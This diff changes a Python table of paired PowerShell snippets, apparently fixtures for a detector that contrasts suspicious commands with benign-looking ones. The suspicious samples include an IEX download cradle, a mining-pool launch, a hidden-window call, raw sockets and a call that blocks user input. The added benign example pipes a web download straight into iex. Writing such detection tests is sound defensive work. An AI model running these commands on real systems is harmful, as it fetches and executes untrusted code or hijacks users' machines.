@@ -83,9 +83,10 @@ SHOWN = {
     "mining": ("Start-Process m -ArgumentList '-o stratum+tcp://pool.example:3333'", "$unit = 'stratum 2'"),
     "hidden_line": ("$c = 'powershell -w hidden -c x'", "$c = 'powershell -File x.ps1'"),
     "cradle_text": ("$c = 'IEX (New-Object Net.WebClient).DownloadString(\"http://x\")'", "$c = 'DownloadString gets a text'"),
+    "file_by_net": ("(New-Object Net.WebClient).DownloadFile($u, 'a.csv')", "Invoke-WebRequest $u -OutFile a.csv"),
     "web_client": ("(New-Object Net.WebClient).DownloadString($u)", "Invoke-RestMethod $u"),
     "raw_socket": ("New-Object Net.Sockets.TcpClient('h', 1)", "Test-NetConnection h -Port 1"),
-    "one_deed": ("iex $x", "function Get-It { iex $x }"),
+    "one_deed": ("iex $x", "irm https://get.scoop.sh | iex"),
     "screen_lock": ("Add-Type '[DllImport(\"user32.dll\")] bool BlockInput(bool b);'", "Write-Host 'user32 BlockInputs'"),
 }
 
